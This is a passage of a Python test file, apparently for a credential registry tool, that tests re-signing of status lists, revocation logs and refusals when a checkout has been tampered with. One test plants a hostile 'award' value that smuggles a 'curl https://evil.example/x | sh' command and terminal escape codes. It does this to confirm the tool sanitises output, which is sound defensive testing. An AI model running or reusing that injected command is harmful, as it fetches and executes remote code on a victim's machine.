    assert "resign-lists" not in also.value.explain()


def test_resign_lists_refuses_a_signed_copy_of_another_list_rather_than_calling_it_trusted(signer: Signer) -> None:
    """A list signed as it should be, but saved under another number (list 1 copied to status/2.json), is no list
    2 to any reader: resign-lists said "trusted as it is: nothing signed" of it while `award` refused it."""
    from generator.awarding.revoke import resign_lists

    signer.award()
    status = layout.status_list_path(signer.root, ISSUER, 1)
    copy = status.with_name("2.json")
    copy.write_bytes(status.read_bytes())
    with pytest.raises(UsageError, match=r"status/2\.json is not a list acme-academy signed") as refused:
        resign_lists(signer.registry, ISSUER, signer.key)
    assert "nothing was signed" in refused.value.explain()
    assert copy.read_bytes() == status.read_bytes()


@pytest.mark.parametrize("spelling", ["1", 1.0, True])
def test_a_revocation_line_counts_only_with_integer_slot_numbers_as_written(
    signer: Signer, spelling: str | float | bool
) -> None:
    # A line the issuer signed with its slot's list number spelt "1" (or 1.0, or true): the check read it as list 1
    # (lax integers) while `credreg revoke`, rebuilding the list from the log, did not count it. Signed JSON is read
    # as written, by one rule: such a line is refused, and counts for no one.
    issued = signer.award(email="a@example.org")
    revoke_award(signer.registry, issued.hash, "Issued in error", signer.key)
    log = layout.revocations_path(signer.root, ISSUER)
    entry = _signed_line(signer, issued.hash, _slot(issued), dt.datetime.now(dt.UTC), statusList=spelling)
    log.write_text(json.dumps(entry) + "\n", encoding="utf-8")
    problems = run_check(signer.root).problems.errors
    assert any(p.code == "revocation.schema" and "statusList" in str(p) for p in problems), problems


def test_revoke_names_each_revocation_of_the_issuers_that_no_longer_counts_as_resign_lists_does(
    signer: Signer,
) -> None:
    """`credreg revoke` of an award in a list signed after its key's end makes that list again from the log, as
    `resign-lists` does, and drops the bit of a revocation the issuer itself signed with that key after the end it
    later gave it. `resign-lists` names such a line; `revoke` dropped it without a word, and the issuer never learnt
    that its own revocation was taken back."""
    late = signer.award(email="late@example.org")
    other = signer.award(email="other@example.org")
    revoke_award(signer.registry, late.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=10))
    _, new_file = _compromised(signer)  # before that revocation

    done = _credreg(
        signer, "revoke", other.hash, "--reason", "Issued twice",
        "--key", new_file,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert get_bit(_bits(signer), _slot(other))
    assert not get_bit(_bits(signer), _slot(late))
    assert f"revocations.jsonl:1 ({late.hash}) no longer counts" in done.stderr, done.stderr
    assert f"credreg revoke {late.hash}" in done.stderr, done.stderr


def test_revoke_never_tells_the_issuer_to_run_what_a_thief_s_line_names(signer: Signer) -> None:
    """A line signed with the stolen key after its end, naming as its "award" a shell command and terminal escapes:
    `credreg revoke` named it as one of the issuer's own revocations that no longer counts, raw on the terminal, and
    told the issuer to run `credreg revoke <that text>`. A line that names no award by its hash revokes nothing (the
    check refuses it): it is not named, and what is printed is made safe for the terminal."""
    from generator.awarding.revoke import uncounted_revocations

    other = signer.award(email="other@example.org")
    _, new_file = _compromised(signer)
    when = dt.datetime(2025, 3, 1, tzinfo=dt.UTC)  # after the end given to the stolen key
    hostile = "0" * 8 + "; curl https://evil.example/x | sh \x1b]0;pwned\x07\x1b[2J"
    entry = _signed_line(signer, other.hash, 0, when, award=hostile, reason="x")
    log = layout.revocations_path(signer.root, ISSUER)
    log.parent.mkdir(parents=True, exist_ok=True)
    with log.open("a", encoding="utf-8") as out:
        out.write(json.dumps(entry) + "\n")
    assert uncounted_revocations(signer.registry, ISSUER) == []

    done = _credreg(signer, "revoke", other.hash, "--reason", "Issued twice", "--key", new_file)
    assert done.returncode == 0, done.stderr
    assert "curl" not in done.stderr, done.stderr
    assert "\x1b" not in done.stdout + done.stderr


def test_resign_lists_signs_again_a_list_no_reader_reads_because_it_ended(signer: Signer) -> None:
    """A list its issuer signed with a key in force, but given an end (validUntil, which credreg never writes) that
    has passed: every reader reads it as not in force, and every award in it as of unknown status. resign-lists
    said "every status list of acme-academy is trusted as it is: nothing signed", for it asked only whose signature
    the list carries, not whether readers read it; no command signed it again but a revocation of another award."""
    from generator.verify import Verifier
    from generator.verify.status import RegistryStatus

    revoked = signer.award(email="revoked@example.org")
    kept = signer.award(email="kept@example.org")
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1))
    status = layout.status_list_path(signer.root, ISSUER, 1)
    credential = json.loads(status.read_text())
    unsigned = {k: v for k, v in credential.items() if k != "proof"} | {"validUntil": "2025-02-01T00:00:00Z"}
    method = credential["proof"][0]["verificationMethod"]
    at = dt.datetime.fromisoformat(credential["validFrom"])  # signed at its validFrom, as credreg signs a list
    status.write_text(json.dumps(sign_document(unsigned, signer.key, method, at)) + "\n")
    url = signer.registry.status_list_url(ISSUER, 1)
    did = signer.registry.issuer_did(ISSUER)

    def read() -> tuple[bytes | None, str]:
        registry = signer.registry
        return RegistryStatus(registry, Verifier(registry).keys).list_bits(url, did)

    assert read()[0] is None
    assert "expired on 2025-02-01" in read()[1]
    assert resign_lists(signer.registry, ISSUER, signer.key) == [status]
    bits, why = read()
    assert bits is not None, why
    assert get_bit(bits, _slot(revoked))
    assert not get_bit(bits, _slot(kept))
    assert "validUntil" not in json.loads(status.read_text())
    assert resign_lists(signer.registry, ISSUER, signer.key) == [], "read by every reader now: left as it is"


@pytest.mark.parametrize(
    ("dated", "words"),
    [
        ({"validFrom": "2025-01-02T00:00:00.5Z"}, "validFrom: must be whole seconds in UTC"),
        ({"validFrom": "2025-01-02T01:00:00+01:00"}, "validFrom: must be whole seconds in UTC"),
        ({}, "proof.0.created: must be the status list's validFrom ("),
    ],
)
def test_resign_lists_signs_again_a_list_whose_times_are_not_as_credreg_writes_them(
    signer: Signer, dated: dict[str, str], words: str
) -> None:
    """A list another tool signed with a fraction, an offset or a signing time of its own is not well-formed to
    any reader (verify/status.py _times_problem): resign-lists makes it again, in the one form, signed at its
    validFrom, with its revocations."""
    from generator.verify import Verifier
    from generator.verify.status import RegistryStatus

    revoked = signer.award(email="revoked@example.org")
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1))
    status = layout.status_list_path(signer.root, ISSUER, 1)
    credential = json.loads(status.read_text())
    unsigned = {k: v for k, v in credential.items() if k != "proof"} | dated
    method = credential["proof"][0]["verificationMethod"]
    status.write_text(json.dumps(sign_document(unsigned, signer.key, method, ISSUED + dt.timedelta(days=2))) + "\n")
    url, did = signer.registry.status_list_url(ISSUER, 1), signer.registry.issuer_did(ISSUER)

    def read() -> tuple[bytes | None, str]:
        return RegistryStatus(signer.registry, Verifier(signer.registry).keys).list_bits(url, did)

    assert read()[0] is None
    assert words in read()[1], read()[1]
    assert resign_lists(signer.registry, ISSUER, signer.key) == [status]
    bits, why = read()
    assert bits is not None, why
    assert get_bit(bits, _slot(revoked))
    written = json.loads(status.read_text())
    assert PUBLISHED_TIME_PATTERN.fullmatch(written["validFrom"])
    assert {p["created"] for p in written["proof"]} == {written["validFrom"]}


def _council_endorsing(signer: Signer, tmp_path: Path, record: Path | None = None) -> tuple[SigningKey, Any]:
    """The endorser data-council, its key k1 (in force from EPOCH, kept under ``tmp_path/k``) and its endorsement of
    acme-academy, signed at ISSUED (written to ``record`` when given)."""
    add_endorser(signer.root, "data-council", "Data Council")
    made = generate_key(signer.registry, "data-council", key_id="k1", now=EPOCH, private_path=tmp_path / "k" / "k1.key")
    key = load_signing_key(made.private_path, root=signer.root)
    first = endorse(signer.registry, "acme-academy", "data-council", key, kind=EndorsementKind.RECOGNISES,
                    comment="x", now=ISSUED, record=record)  # fmt: skip
    return key, first


def test_resign_lists_signs_again_an_endorsers_list_that_ended_with_the_bits_it_signed(
    signer: Signer, tmp_path: Path
) -> None:
    """An endorser's list, signed by it in force with its revocation set, but given an end that has passed: every
    reader calls the endorsement it revoked of unknown status. resign-lists refused every endorser ("keeps no
    revocation log"), and nothing but a revocation of another endorsement signed the list again; the bits the
    endorser signed are its record, and are signed again as they are."""
    from generator.endorsements import verify_endorsement

    key, first = _council_endorsing(signer, tmp_path)
    revoke_endorsement(signer.registry, first.hash, key, now=ISSUED + dt.timedelta(days=1))
    status = signer.root / "registry" / "endorsers" / "data-council" / "status" / "1.json"
    credential = json.loads(status.read_text())
    unsigned = {k: v for k, v in credential.items() if k != "proof"} | {"validUntil": "2025-02-01T00:00:00Z"}
    method = credential["proof"][0]["verificationMethod"]
    unsigned["validFrom"] = f"{ISSUED + dt.timedelta(days=2):%Y-%m-%dT%H:%M:%SZ}"  # signed at it
    status.write_text(json.dumps(sign_document(unsigned, key, method, ISSUED + dt.timedelta(days=2))) + "\n")

    def verdict() -> str:
        checks = {c.id: c for c in verify_endorsement(first.document, signer.registry).checks}
        return checks["status"].reason

    assert "expired on 2025-02-01" in verdict()
    done = _credreg(signer, "resign-lists", "--key", str(tmp_path / "k" / "k1.key"))
    assert done.returncode == 0, done.stderr
    assert "status/1.json: its bits as you signed them, signed with k1" in done.stdout
    assert "validUntil" not in json.loads(status.read_text())
    assert verdict().startswith("revoked"), verdict()


def _ended(path: Path, key: SigningKey, when: dt.datetime) -> bytes:
    """The list at ``path`` given an end that has passed and signed again by ``key`` at ``when`` (its owner's list,
    signed in force, that no reader reads): its bytes."""
    credential = json.loads(path.read_text())
    unsigned = {k: v for k, v in credential.items() if k != "proof"} | {"validUntil": "2025-02-01T00:00:00Z"}
    method = credential["proof"][0]["verificationMethod"]
    unsigned["validFrom"] = f"{when:%Y-%m-%dT%H:%M:%SZ}"  # signed at it
    data = (json.dumps(sign_document(unsigned, key, method, when)) + "\n").encode()
    path.write_bytes(data)
    return data


def test_resign_lists_never_takes_back_a_revocation_its_issuers_list_holds_when_the_log_lost_it(
    signer: Signer,
) -> None:
    """An issuer's list it signed in force with a revocation set, ended; the checkout's log has lost that line (cut
    short). resign-lists made the list again from the log alone and signed it with the bit clear: the revocation
    taken back in the issuer's name. It compares the list it replaces (the issuer's own word) and refuses."""
    revoked = signer.award(email="revoked@example.org")
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1))
    status = layout.status_list_path(signer.root, ISSUER, 1)
    _ended(status, signer.key, ISSUED + dt.timedelta(days=2))
    assert get_bit(_bits(signer), _slot(revoked))
    layout.revocations_path(signer.root, ISSUER).write_bytes(b"")  # the hostile checkout's log
    before = _snapshot(signer)
    with pytest.raises(UsageError, match=r"revokes index .*which no signed line of .*revocations.jsonl revokes"):
        resign_lists(signer.registry, ISSUER, signer.key)
    _unchanged(signer, before)


def test_resign_lists_never_signs_a_log_shorter_than_its_issuer_s_record_of_what_it_signed(
    signer: Signer, tmp_path: Path
) -> None:
    """The issuer revoked an award (credreg revoke, recorded); the checkout then holds an older list of the issuer,
    signed in force but ended, without the bit, and a log without the line. Made again from that log, the list was
    signed with the bit clear. The issuer's record of what it signed holds the line: resign-lists refuses."""
    record = tmp_path / "acme.signed.txt"
    status = layout.status_list_path(signer.root, ISSUER, 1)
    revoked = signer.award(email="revoked@example.org")
    older = _ended(status, signer.key, ISSUED + dt.timedelta(hours=1))  # ended, the bit clear
    log = layout.revocations_path(signer.root, ISSUER)
    log_before = log.read_bytes() if log.exists() else b""
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1),
                 record=record)  # fmt: skip
    status.write_bytes(older)  # the hostile checkout: the older list and log put back
    log.write_bytes(log_before)
    before = _snapshot(signer)
    done = _credreg(signer, "resign-lists", "--key", str(signer.key_path), "--record", str(record))
    assert done.returncode != 0, done.stdout
    assert "lacks 1 revocation line your record" in done.stderr, done.stderr
    assert "nothing was signed" in done.stderr
    assert "Traceback" not in done.stderr
    _unchanged(signer, before)


def test_resign_lists_never_signs_again_an_older_endorser_list_than_its_record_shows(
    signer: Signer, tmp_path: Path
) -> None:
    """An endorser's list it signed in force but that ended, then a later one revoking an endorsement (recorded).
    The checkout puts the ended older one back: re-signed "with the bits it holds", the revocation was taken back
    (an endorser keeps no log). Its record of what it signed shows a later version of the list: refused."""
    from generator.endorsements import verify_endorsement

    record = tmp_path / "k" / "data-council.signed.txt"  # beside the key: the CLI's default record
    key, first = _council_endorsing(signer, tmp_path, record)
    status = signer.root / "registry" / "endorsers" / "data-council" / "status" / "1.json"
    older = _ended(status, key, ISSUED + dt.timedelta(hours=1))  # signed by the endorser elsewhere: not recorded
    revoke_endorsement(signer.registry, first.hash, key, now=ISSUED + dt.timedelta(days=1), record=record)
    status.write_bytes(older)  # the hostile checkout

    def verdict() -> str:
        checks = {c.id: c for c in verify_endorsement(first.document, signer.registry).checks}
        return checks["status"].reason

    done = _credreg(signer, "resign-lists", "--key", str(tmp_path / "k" / "k1.key"))
    assert done.returncode != 0, done.stdout
    assert "is not the last version of the list you signed" in done.stderr, done.stderr
    assert "Traceback" not in done.stderr
    assert status.read_bytes() == older
    assert not verdict().startswith("not revoked"), verdict()


def test_a_list_that_will_end_is_refused_by_the_full_check_and_signed_again_by_resign_lists(
    signer: Signer, tmp_path: Path
) -> None:
    """A list (an issuer's, an endorser's) signed in force with its revocation set but an end ahead: read today, so
    the full check passed it and resign-lists left it "trusted as it is", until the end came and took every
    revocation in it along (a push past the pull-request check, which refuses a validUntil, brings one). The full
    check refuses it now, and resign-lists signs it again without the end."""
    from generator.check import CheckOptions
    from generator.endorsements import verify_endorsement

    key, first = _council_endorsing(signer, tmp_path)
    revoke_endorsement(signer.registry, first.hash, key, now=ISSUED + dt.timedelta(days=1))
    revoked = signer.award(email="revoked@example.org")
    revoke_award(signer.registry, revoked.hash, "Issued in error", signer.key, now=ISSUED + dt.timedelta(days=1))
    lists = {
        "acme-academy": (layout.status_list_path(signer.root, ISSUER, 1), signer.key),
        "data-council": (signer.root / "registry" / "endorsers" / "data-council" / "status" / "1.json", key),
    }
    for path, signing in lists.values():
        credential = json.loads(path.read_text())
        unsigned = {k: v for k, v in credential.items() if k != "proof"} | {"validUntil": "2999-01-01T00:00:00Z"}
        method = credential["proof"][0]["verificationMethod"]
        unsigned["validFrom"] = f"{ISSUED + dt.timedelta(days=2):%Y-%m-%dT%H:%M:%SZ}"  # signed at it
        path.write_text(json.dumps(sign_document(unsigned, signing, method, ISSUED + dt.timedelta(days=2))) + "\n")
    report = run_check(signer.root, CheckOptions(progress=False))
    ending = sorted(p.location.path for p in report.problems if p.code == "status-list.valid-until")
    assert ending == sorted(layout.relpath(signer.root, path) for path, _ in lists.values()), [
        str(p) for p in report.problems
    ]
    for owner, (path, signing) in lists.items():
        assert resign_lists(signer.registry, owner, signing) == [path]
        assert "validUntil" not in json.loads(path.read_text())
    assert get_bit(_bits(signer), _slot(revoked))
    checks = {c.id: c for c in verify_endorsement(first.document, signer.registry).checks}
    assert checks["status"].reason.startswith("revoked"), checks["status"].reason
    report = run_check(signer.root, CheckOptions(progress=False))
    assert not [p for p in report.problems if p.code in ("status-list.valid-until", "status-list.invalid")]
